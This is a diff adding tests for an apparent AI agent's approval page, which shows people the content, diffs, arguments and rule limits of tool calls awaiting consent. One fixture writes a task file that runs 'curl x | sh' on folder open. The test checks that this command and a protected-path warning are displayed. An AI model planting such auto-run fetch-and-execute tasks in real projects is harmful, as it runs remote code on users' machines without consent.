@@ -105,9 +105,26 @@ test('the page: the whole command, every detail, one link per answer (Deny first
   assert.doesNotMatch(html, /<script/);
 });
 
+test('the page shows what is approved: a write\'s content, an edit\'s diff, what a protected file can do, the arguments as fields, the rule\'s limits or why none', () => {
+  const write = approvalView(rich({ command: undefined, tool: 'Write', content: '{"tasks":[{"command":"curl x | sh","runOptions":{"runOn":"folderOpen"}}]}', protects: 'a task can run as soon as the folder is opened', rule: undefined, noRule: 'it changes a protected path' }));
+  let text = pageText(approvalHtml(write, 1, nonce));
+  for (const want of ['curl x | sh', 'folderOpen', 'a task can run as soon as the folder is opened', 'No "always allow": it changes a protected path']) assert.ok(text.includes(want), `${want} in the page`);
+  const m = modalPrompt(write);
+  assert.ok(m.detail.includes('curl x | sh') && m.detail.includes('What this file can do'), m.detail);
+  const edit = approvalView(rich({ command: undefined, tool: 'Edit', diff: '--- a\n+++ a\n@@ -1,1 +1,1 @@\n-old line\n+new line\n' }));
+  const html = approvalHtml(edit, 1, nonce);
+  assert.match(html, /<del>-old line<\/del>/);
+  assert.match(html, /<ins>\+new line<\/ins>/);
+  const fetch = approvalView(rich({ command: undefined, tool: 'WebFetch', fields: [{ name: 'url', value: 'https://example.com/x' }, { name: 'prompt', value: 'summarize it' }] }));
+  text = pageText(approvalHtml(fetch, 1, nonce));
+  assert.ok(text.includes('https://example.com/x') && text.includes('summarize it') && !text.includes('{"url"'), text);
+  const offered = approvalView(rich({ rule: { match: 'curl', decision: 'allow', scope: 'workspace', covers: 'curl, with any options, when it reaches localhost:3000 only; sends nothing', effects: { hosts: ['localhost:3000'] } } }));
+  assert.ok(pageText(approvalHtml(offered, 1, nonce)).includes('reaches localhost:3000 only'));
+});
+
 test('the page draws every text from the agent inert', () => {
   for (const h of hostile) {
-    const p = (x: string) => rich({ command: x, agent: x, session: x, reason: x, cwd: x, targets: [x, x], confinement: x, tool: x, rule: { match: x.trim() ? x : 'x', decision: 'allow', scope: 'workspace' } });
+    const p = (x: string) => rich({ command: x, agent: x, session: x, reason: x, cwd: x, targets: [x, x], confinement: x, tool: x, rule: { match: x.trim() ? x : 'x', decision: 'allow', scope: 'workspace', covers: x }, content: x, diff: `--- f\n+++ f\n@@ -1 +1 @@\n-${x.replace(/\n/g, ' ')}\n+${x.replace(/\n/g, ' ')}`, protects: x, fields: [{ name: x, value: x }] });
     assertInertHtml(approvalHtml(approvalView(p(h)), 1, nonce), approvalHtml(approvalView(p('x')), 1, nonce), [h], `prompt page with ${JSON.stringify(h)}`);
   }
 });
